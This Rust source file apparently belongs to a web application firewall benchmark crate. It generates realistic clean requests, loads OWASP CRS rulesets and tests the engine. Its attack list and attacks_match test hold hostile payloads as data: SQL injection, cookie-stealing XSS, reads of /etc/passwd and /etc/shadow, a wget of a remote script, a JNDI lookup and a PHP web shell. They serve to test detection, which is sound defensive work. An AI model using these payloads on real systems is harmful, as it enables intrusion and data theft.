        p3 = rng.range(10, 99),
        p4 = rng.range(10, 99),
        num = rng.range(1, 180),
        theme = if rng.below(2) == 0 { "dark" } else { "light" },
        news = rng.below(2) == 0,
        push = rng.below(2) == 0,
        tags = tags.join(","),
        devices = devices.join(","),
        tier = *rng.pick(&["bronze", "silver", "gold", "platinum"]),
        points = rng.range(0, 48_000),
        year = rng.range(15, 23),
        month = rng.range(1, 9),
        day = rng.range(1, 9),
    )
}

/// A name without its diacritics, for e-mail addresses.
fn ascii_name(name: &str) -> String {
    name.chars()
        .map(|c| match c {
            'ë' => 'e',
            'é' => 'e',
            'í' => 'i',
            'Ł' => 'L',
            'ó' => 'o',
            c => c,
        })
        .collect()
}

fn uuid(rng: &mut Rng) -> String {
    let a = rng.next_u64();
    let b = rng.next_u64();
    format!(
        "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
        a >> 32,
        (a >> 16) & 0xffff,
        a & 0xfff,
        0x8000 | (b >> 48) & 0x3fff,
        b & 0xffff_ffff_ffff
    )
}

/// A clean POST with a 16 KiB JSON body: a batch of user profiles (nested address,
/// preferences and loyalty objects, arrays of tags and devices), as an account-sync API
/// receives it.
///
/// ```
/// let r = waf_benches::json_16k();
/// assert_eq!(r.body().len(), 16 * 1024);
/// assert_eq!(r.headers().get("content-type"), Some(&b"application/json"[..]));
/// ```
pub fn json_16k() -> Request {
    json_16k_seeded(0x1_6000)
}

/// [`json_16k`] with other random values: what changes from one sign-in to the next (tokens,
/// ids, cookies, generated text) is drawn from `seed`; what belongs to the app stays. Benchmarks
/// cycle through several, because the engine remembers verdicts for values it has seen and a
/// request repeated byte for byte would flatter it.
///
/// ```
/// let a = waf_benches::json_16k_seeded(1);
/// let b = waf_benches::json_16k_seeded(2);
/// assert!(a.uri() != b.uri() || a.body() != b.body());
/// ```
pub fn json_16k_seeded(seed: u64) -> Request {
    const BODY_LEN: usize = 16 * 1024;
    const NOTE: &str = "Profiles exported by the nightly account synchronisation job. \
                        Contact preferences follow the consent recorded at sign-up. ";
    let mut rng = Rng::new(seed);
    let head = format!(
        r#"{{"batchId":"{}","source":"crm-sync","schemaVersion":3,"profiles":["#,
        uuid(&mut rng)
    );
    // The tail carries a free-text note that pads the body to its exact size.
    let tail_start = r#"],"meta":{"count":"#;
    let mut profiles: Vec<String> = Vec::new();
    loop {
        let next = profile_json(&mut rng, profiles.len());
        let size = head.len()
            + profiles.iter().map(|p| p.len() + 1).sum::<usize>()
            + next.len()
            + tail_start.len()
            + 80;
        if size > BODY_LEN {
            break;
        }
        profiles.push(next);
    }
    let mut body = head;
    body.push_str(&profiles.join(","));
    let _ = write!(
        body,
        r#"{tail_start}{},"exportedAt":"2024-05-20T02:00:00Z","note":""#,
        profiles.len()
    );
    let pad = BODY_LEN.saturating_sub(body.len() + 3);
    body.extend(NOTE.chars().cycle().take(pad));
    body.push_str("\"}}");
    Request::builder()
        .method("POST")
        .uri("/api/v2/accounts/profiles:sync?api-version=2024-05-01")
        .header("Host", "api.contoso.com")
        .header(
            "User-Agent",
            "contoso-crm-sync/4.12.0 (+https://contoso.com/bots)",
        )
        .header("Accept", "application/json")
        .header("Content-Type", "application/json")
        .header("Content-Length", body.len().to_string())
        .header(
            "Authorization",
            format!(
                "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.{}",
                rng.base64ish(220)
            ),
        )
        .header("X-Request-Id", uuid(&mut rng))
        .header("Accept-Encoding", "gzip")
        .body(body)
        .remote_addr(IpAddr::V4(Ipv4Addr::new(198, 51, 100, 17)))
        .build()
}

/// A clean OAuth 2.0 authorization request (PKCE) to a B2C policy, as a browser sends it when
/// an application redirects there: `client_id`, `redirect_uri`, `response_type`, `scope`,
/// `state`, `nonce`, `code_challenge`, `code_challenge_method`, `response_mode`, `prompt`, and
/// the MSAL telemetry parameters.
///
/// ```
/// let r = waf_benches::authorize_get();
/// assert_eq!(r.method(), b"GET");
/// assert!(r.query().unwrap().starts_with(b"client_id="));
/// ```
pub fn authorize_get() -> Request {
    authorize_get_seeded(0xA07)
}

/// [`authorize_get`] with other random values: what changes from one sign-in to the next (tokens,
/// ids, cookies, generated text) is drawn from `seed`; what belongs to the app stays. Benchmarks
/// cycle through several, because the engine remembers verdicts for values it has seen and a
/// request repeated byte for byte would flatter it.
///
/// ```
/// let a = waf_benches::authorize_get_seeded(1);
/// let b = waf_benches::authorize_get_seeded(2);
/// assert!(a.uri() != b.uri() || a.body() != b.body());
/// ```
pub fn authorize_get_seeded(seed: u64) -> Request {
    let mut rng = Rng::new(seed);
    let uri = format!(
        "/contoso.onmicrosoft.com/{POLICY}/oauth2/v2.0/authorize?client_id={CLIENT_ID}\
         &scope=openid%20profile%20offline_access%20https%3A%2F%2Fcontoso.onmicrosoft.com%2Fapi%2Forders.read\
         &redirect_uri=https%3A%2F%2Fapp.contoso.com%2Fauth%2Fcallback\
         &client-request-id={}&response_mode=fragment&response_type=code\
         &x-client-SKU=msal.js.browser&x-client-VER=3.13.0&client_info=1\
         &code_challenge={}&code_challenge_method=S256&nonce={}&state={}\
         &prompt=login&ui_locales=en-US",
        uuid(&mut rng),
        rng.base64ish(43),
        uuid(&mut rng),
        format_args!(
            "eyJpZCI6IjAx{}%7Cfalse%7Chttps%3A%2F%2Fapp.contoso.com%2Forders",
            rng.base64ish(60)
        ),
    );
    let cookies = format!(
        "x-ms-cpim-sso:contoso.onmicrosoft.com_0=m1.{}; x-ms-cpim-dc=cpim-weu; \
         ai_user=Wd3kP|2024-05-20T09:41:07.118Z",
        rng.base64ish(48)
    );
    Request::builder()
        .uri(uri)
        .header("Host", "login.contoso.com")
        .header("Connection", "keep-alive")
        .header("sec-ch-ua", SEC_CH_UA)
        .header("sec-ch-ua-mobile", "?0")
        .header("sec-ch-ua-platform", "\"Windows\"")
        .header("Upgrade-Insecure-Requests", "1")
        .header("User-Agent", CHROME_UA)
        .header(
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,\
             image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
        )
        .header("Sec-Fetch-Site", "cross-site")
        .header("Sec-Fetch-Mode", "navigate")
        .header("Sec-Fetch-User", "?1")
        .header("Sec-Fetch-Dest", "document")
        .header("Referer", "https://app.contoso.com/")
        .header("Accept-Encoding", "gzip, deflate, br, zstd")
        .header("Accept-Language", "en-US,en;q=0.9,fr-FR;q=0.8,fr;q=0.7")
        .header("Cookie", cookies)
        .remote_addr(client_addr())
        .build()
}

/// A clean SAML assertion-consumer post to a B2C policy, as a browser sends it when a federated
/// identity provider (AD FS) signs a user in: an `application/x-www-form-urlencoded` body with a
/// base64 `SAMLResponse` of about 6 KB (a signed response with an assertion, attribute
/// statements and the signing certificate) and a `RelayState`.
///
/// The base64 value is what makes this request hard for a WAF: thousands of bytes of letters,
/// digits, `+`, `/` and `=`, in which short keywords appear by chance.
///
/// ```
/// let r = waf_benches::saml_acs();
/// assert!(r.body().starts_with(b"SAMLResponse="));
/// assert!(r.body().len() > 6_000);
/// ```
pub fn saml_acs() -> Request {
    saml_acs_seeded(0x5A41)
}

/// [`saml_acs`] with other random values (ids, times, signature, certificate, relay state),
/// for the same reason as [`authorize_get_seeded`].
///
/// ```
/// let a = waf_benches::saml_acs_seeded(1);
/// let b = waf_benches::saml_acs_seeded(2);
/// assert_ne!(a.body(), b.body());
/// ```
pub fn saml_acs_seeded(seed: u64) -> Request {
    let mut rng = Rng::new(seed);
    let acs =
        "https://login.contoso.com/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/assertionconsumer";
    let issuer = "http://adfs.fabrikam.com/adfs/services/trust";
    let (response_id, assertion_id) = (uuid(&mut rng), uuid(&mut rng));
    let mut attributes = String::new();
    for (name, value) in [
        ("emailaddress", "zoe.martin@fabrikam.com"),
        ("givenname", "Zoë"),
        ("surname", "Martin"),
        ("name", "Zoë Martin"),
        ("upn", "zmartin@fabrikam.com"),
        ("objectidentifier", "8c2f4b1e-3a5d-4e6f-9b7a-1d2c3e4f5a6b"),
    ] {
        let _ = write!(
            attributes,
            r#"<Attribute Name="http://schemas.xmlsoap.org/ws/2005/05/identity/claims/{name}"><AttributeValue>{value}</AttributeValue></Attribute>"#
        );
    }
    let xml = format!(
        r##"<samlp:Response ID="_{response_id}" Version="2.0" IssueInstant="2024-05-20T09:41:07.118Z" Destination="{acs}" Consent="urn:oasis:names:tc:SAML:2.0:consent:unspecified" InResponseTo="_{request_id}" xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><Issuer xmlns="urn:oasis:names:tc:SAML:2.0:assertion">{issuer}</Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success" /></samlp:Status><Assertion ID="_{assertion_id}" IssueInstant="2024-05-20T09:41:07.118Z" Version="2.0" xmlns="urn:oasis:names:tc:SAML:2.0:assertion"><Issuer>{issuer}</Issuer><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#" /><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256" /><ds:Reference URI="#_{assertion_id}"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature" /><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#" /></ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256" /><ds:DigestValue>{digest}</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>{signature}</ds:SignatureValue><KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#"><ds:X509Data><ds:X509Certificate>{certificate}</ds:X509Certificate></ds:X509Data></KeyInfo></ds:Signature><Subject><NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">zoe.martin@fabrikam.com</NameID><SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><SubjectConfirmationData InResponseTo="_{request_id}" NotOnOrAfter="2024-05-20T09:46:07.118Z" Recipient="{acs}" /></SubjectConfirmation></Subject><Conditions NotBefore="2024-05-20T09:41:07.102Z" NotOnOrAfter="2024-05-20T10:41:07.102Z"><AudienceRestriction><Audience>https://login.contoso.com/contoso.onmicrosoft.com/B2C_1A_SAML</Audience></AudienceRestriction></Conditions><AttributeStatement>{attributes}</AttributeStatement><AuthnStatement AuthnInstant="2024-05-20T09:41:06.995Z" SessionIndex="_{assertion_id}"><AuthnContext><AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</AuthnContextClassRef></AuthnContext></AuthnStatement></Assertion></samlp:Response>"##,
        request_id = uuid(&mut rng),
        digest = rng.base64ish(43) + "=",
        signature = rng.base64ish(342) + "==",
        certificate = rng.base64ish(1_500),
    );
    let relay_state = format!(
        "https%3A%2F%2Fapp.contoso.com%2Forders%3Fsession%3D{}",
        rng.base64ish(24)
    );
    let body = format!(
        "SAMLResponse={}&RelayState={relay_state}",
        url_encode(&base64(xml.as_bytes()))
    );
    Request::builder()
        .method("POST")
        .uri("/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/assertionconsumer")
        .header("Host", "login.contoso.com")
        .header("Connection", "keep-alive")
        .header("Content-Length", body.len().to_string())
        .header("Cache-Control", "max-age=0")
        .header("sec-ch-ua", SEC_CH_UA)
        .header("sec-ch-ua-mobile", "?0")
        .header("sec-ch-ua-platform", "\"Windows\"")
        .header("Origin", "https://adfs.fabrikam.com")
        .header("Content-Type", "application/x-www-form-urlencoded")
        .header("Upgrade-Insecure-Requests", "1")
        .header("User-Agent", CHROME_UA)
        .header(
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,\
             image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
        )
        .header("Sec-Fetch-Site", "cross-site")
        .header("Sec-Fetch-Mode", "navigate")
        .header("Sec-Fetch-Dest", "document")
        .header("Referer", "https://adfs.fabrikam.com/")
        .header("Accept-Encoding", "gzip, deflate, br, zstd")
        .header("Accept-Language", "en-US,en;q=0.9,fr-FR;q=0.8,fr;q=0.7")
        .header("Cookie", b2c_cookies(&mut rng))
        .body(body)
        .remote_addr(client_addr())
        .build()
}

/// A POST whose form body is one field, `comment`, of 16 KiB of prose: the matcher's
/// throughput benchmark. With `attacks`, an attack (SQL injection, XSS, command injection,
/// path traversal, in turn) is strewn into the prose about every 1.5 KiB, so that rules
/// match throughout the field.
///
/// ```
/// let miss = waf_benches::field_16k(1, false);
/// let hit = waf_benches::field_16k(1, true);
/// assert_eq!(miss.body().len(), "comment=".len() + 16 * 1024);
/// assert_eq!(hit.body().len(), miss.body().len());
/// ```
pub fn field_16k(seed: u64, attacks: bool) -> Request {
    const FIELD_LEN: usize = 16 * 1024;
    const WORDS: &[&str] = &[
        "the", "account", "was", "created", "during", "our", "spring", "campaign", "and",
        "customer", "asked", "whether", "their", "order", "could", "be", "shipped", "before",
        "holidays", "please", "call", "back", "after", "lunch", "thanks", "for", "help", "with",
        "sign-in", "issue", "on", "mobile", "app", "it", "works", "now", "password", "reset",
        "email", "arrived", "late", "address", "changed", "last", "week",
    ];
    const ATTACKS: &[&str] = &[
        "1%27+UNION+SELECT+password+FROM+users--",
        "%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
        "%3B+cat+%2Fetc%2Fpasswd",
        "..%2F..%2F..%2Fetc%2Fshadow",
    ];
    let mut rng = Rng::new(seed);
    let mut field = String::with_capacity(FIELD_LEN + 64);
    let mut next_attack = 700;
    let mut n = 0;
    while field.len() < FIELD_LEN {
        if attacks && field.len() >= next_attack {
            field.push_str(ATTACKS[n % ATTACKS.len()]);
            field.push('+');
            n += 1;
            next_attack += 1_500;
        }
        field.push_str(WORDS[rng.below(WORDS.len())]);
        field.push(if rng.below(12) == 0 { '.' } else { '+' });
    }
    field.truncate(FIELD_LEN);
    // Not inside a percent escape.
    while let Some(cut) = field[field.len().saturating_sub(2)..].find('%') {
        let at = field.len() - 2 + cut;
        field.replace_range(at.., &"x".repeat(FIELD_LEN - at));
    }
    let body = format!("comment={field}");
    Request::builder()
        .method("POST")
        .uri("/contoso.onmicrosoft.com/B2C_1A_support/api/feedback")
        .header("Host", "login.contoso.com")
        .header("Content-Type", "application/x-www-form-urlencoded")
        .header("Content-Length", body.len().to_string())
        .header("User-Agent", CHROME_UA)
        .header("Accept", "application/json")
        .body(body)
        .remote_addr(client_addr())
        .build()
}

/// Standard base64 with padding. Written out because the workload generators otherwise need
/// no dependency, and this is the one place that encodes.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Percent-encodes what a form encoder would in a base64 value: `+`, `/` and `=`.
fn url_encode(s: &str) -> String {
    s.replace('+', "%2B")
        .replace('/', "%2F")
        .replace('=', "%3D")
}

/// The rulesets the benchmarks measure, by name: the repository's own `rules/` and the OWASP
/// CRS 3.3.4 as Debian's `modsecurity-crs` installs it, alone or with our sign-in exclusions.
///
/// ```
/// use waf_benches::Ruleset;
/// assert_eq!("crs-signin".parse::<Ruleset>(), Ok(Ruleset::CrsSignin));
/// assert!("modsec".parse::<Ruleset>().is_err());
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ruleset {
    /// `rules/` of this repository (`ours`).
    Ours,
    /// `/etc/modsecurity/crs/crs-setup.conf` and `/usr/share/modsecurity-crs/rules` (`crs`).
    Crs,
    /// The CRS with `crs/signin-exclusions.conf` between the setup and the rules
    /// (`crs-signin`).
    CrsSignin,
}

impl std::str::FromStr for Ruleset {
    type Err = String;

    fn from_str(name: &str) -> Result<Ruleset, String> {
        match name {
            "ours" => Ok(Ruleset::Ours),
            "crs" => Ok(Ruleset::Crs),
            "crs-signin" => Ok(Ruleset::CrsSignin),
            other => Err(format!(
                "unknown ruleset {other:?} (ours, crs or crs-signin)"
            )),
        }
    }
}

impl Ruleset {
    /// The files the ruleset loads from.
    pub fn paths(self) -> Vec<String> {
        let setup = "/etc/modsecurity/crs/crs-setup.conf".to_string();
        let crs = "/usr/share/modsecurity-crs/rules".to_string();
        match self {
            Ruleset::Ours => vec![concat!(env!("CARGO_MANIFEST_DIR"), "/../rules").to_string()],
            Ruleset::Crs => vec![setup, crs],
            Ruleset::CrsSignin => vec![
                setup,
                concat!(env!("CARGO_MANIFEST_DIR"), "/../crs/signin-exclusions.conf").to_string(),
                crs,
            ],
        }
    }

    /// Loads the ruleset at a paranoia level. The CRS needs Debian's `modsecurity-crs`
    /// (`scripts/setup.sh` installs it); the error says so.
    ///
    /// ```
    /// use waf_benches::Ruleset;
    /// let set = Ruleset::Ours.load(1).unwrap();
    /// assert!(!waf_core::compile(&set).unwrap().inspect(&waf_benches::authorize_get()).is_blocking());
    /// ```
    pub fn load(self, paranoia: u8) -> Result<waf_core::RuleSet, String> {
        let paths = self.paths();
        let files = waf_core::rules::rule_files(&paths).map_err(|e| {
            format!("{self:?} ruleset: {e} (the CRS comes with Debian's modsecurity-crs)")
        })?;
        let mut loader = waf_core::rules::Loader::new();
        for file in files {
            loader.add_file(&file).map_err(|e| e.to_string())?;
        }
        let (mut set, _notes) = loader.finish().map_err(|e| e.to_string())?;
        set.settings.paranoia = paranoia;
        Ok(set)
    }
}

#[cfg(test)]
mod tests {
    use std::sync::OnceLock;

    use super::*;
    use waf_core::operator::Operator;
    use waf_core::reference::Reference;
    use waf_core::rules::Mode;
    use waf_core::{compile, Program, RuleSet};

    const SIZES: [usize; 3] = [100, 500, 1000];

    /// The rulesets of [`SIZES`], parsed and compiled once for all tests (debug builds compile
    /// regexes slowly).
    fn compiled() -> &'static [(usize, RuleSet, Program)] {
        static SETS: OnceLock<Vec<(usize, RuleSet, Program)>> = OnceLock::new();
        SETS.get_or_init(|| {
            SIZES
                .iter()
                .map(|&n| {
                    let yaml = synthetic_ruleset(n, DEFAULT_SEED);
                    let set = RuleSet::from_yaml_str(&yaml, "synthetic.yaml")
                        .unwrap_or_else(|e| panic!("n = {n}: {e}"));
                    let program = compile(&set).unwrap_or_else(|e| panic!("n = {n}: {e}"));
                    (n, set, program)
                })
                .collect()
        })
    }

    fn set_of(n: usize) -> &'static RuleSet {
        &compiled()
            .iter()
            .find(|(m, ..)| *m == n)
            .expect("a tested size")
            .1
    }

    fn requests() -> [(&'static str, Request); 3] {
        [
            ("login_post_1k", login_post_1k()),
            ("json_16k", json_16k()),
            ("authorize_get", authorize_get()),
        ]
    }

    #[test]
    fn rulesets_parse_and_compile() {
        for (n, set, program) in compiled() {
            let n = *n;
            assert_eq!(set.rules().count(), n + PHRASE_RULES + DETECT_RULES);
            assert_eq!(program.rule_count(), n + PHRASE_RULES + DETECT_RULES);
            // Every regex has a literal gate but the residual ones; libinjection never has.
            let ungated = program.rule_count() - program.gated_condition_count();
            assert_eq!(ungated, residual_count(n) + DETECT_RULES, "n = {n}");
        }
    }

    #[test]
    fn generation_is_deterministic_and_seeded() {
        assert_eq!(synthetic_ruleset(50, 7), synthetic_ruleset(50, 7));
        assert_ne!(synthetic_ruleset(50, 7), synthetic_ruleset(50, 8));
        assert_eq!(login_post_1k(), login_post_1k());
        assert_eq!(json_16k(), json_16k());
        assert_eq!(authorize_get(), authorize_get());
    }

    #[test]
    fn rules_are_distinct_and_phrase_lists_sized() {
        let mut patterns = std::collections::HashSet::new();
        let mut lists = Vec::new();
        for rule in set_of(1000).rules() {
            match &rule.conditions[0].operator {
                Operator::Rx(p) => assert!(patterns.insert(p.clone()), "duplicate {p}"),
                Operator::Pm(list) => lists.push(list.len()),
                _ => {}
            }
        }
        assert_eq!(patterns.len(), 1000);
        assert_eq!(lists.len(), PHRASE_RULES);
        assert_eq!(lists.first(), Some(&20));
        assert_eq!(lists.last(), Some(&200));
        assert!(lists.iter().all(|n| (20..=200).contains(n)), "{lists:?}");
    }

    #[test]
    fn sizes_are_as_stated() {
        assert_eq!(login_post_1k().body().len(), 1_000);
        assert!((1_800..3_200).contains(&wire_size(&login_post_1k())));
        assert_eq!(json_16k().body().len(), 16 * 1024);
        let body = json_16k().body().to_vec();
        let text = String::from_utf8(body).expect("UTF-8 JSON");
        assert!(text.starts_with('{') && text.ends_with("}}"));
        assert!(
            text.matches("\"displayName\"").count() >= 12,
            "a dozen profiles or more"
        );
        assert!(authorize_get().body().is_empty());
        assert!(authorize_get().uri().len() > 500);
    }

    /// Each request must be clean: a benchmark of false positives would measure the blocking
    /// path, not inspection. Tested with both evaluators, so they also agree.
    #[test]
    fn requests_are_clean() {
        for (n, _, program) in compiled() {
            for (name, request) in requests() {
                let verdict = program.inspect(&request);
                assert!(
                    verdict.matches.is_empty() && !verdict.is_blocking(),
                    "{name} matched {n} rules: {:#?}",
                    verdict.matches
                );
            }
        }
        // The reference is slow in debug builds: the benchmarked size only.
        let reference = Reference::new(set_of(500)).unwrap();
        for (name, request) in requests() {
            let verdict = reference.inspect(&request);
            assert!(verdict.matches.is_empty(), "{name}: {:#?}", verdict.matches);
        }
    }

    /// The rules are not clean by construction: real attacks set off rules of every kind, and
    /// both evaluators agree on which.
    #[test]
    fn attacks_match() {
        let mut set = set_of(500).clone();
        set.settings.mode = Mode::DetectOnly;
        let attack = Request::builder()
            .uri(
                "/app/../../etc/passwd?id=1%27%20union%20all%20select%20password%20from%20users--\
                 &t=sleep(5)&n=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E\
                 &c=%3Bwget%20-q%20http%3A%2F%2Fx%2Fa.sh&j=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D\
                 &p=%3C%3Fphp%20passthru(%24_GET%5Bc%5D)",
            )
            .header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
            .build();
        let verdict = compile(&set).unwrap().inspect(&attack);
        let ids: Vec<u32> = verdict.matches.iter().map(|m| m.rule_id).collect();
        let regex = ids.iter().filter(|&&id| id < 930_000).count();
        let phrases = ids
            .iter()
            .filter(|&&id| (930_000..940_000).contains(&id))
            .count();
        assert!(regex >= 5, "{regex} regex rules matched: {ids:?}");
        assert!(phrases >= 5, "{phrases} phrase lists matched: {ids:?}");
        assert!(ids.contains(&942100) && ids.contains(&941100), "{ids:?}");
        assert_eq!(Reference::new(&set).unwrap().inspect(&attack), verdict);
    }
}
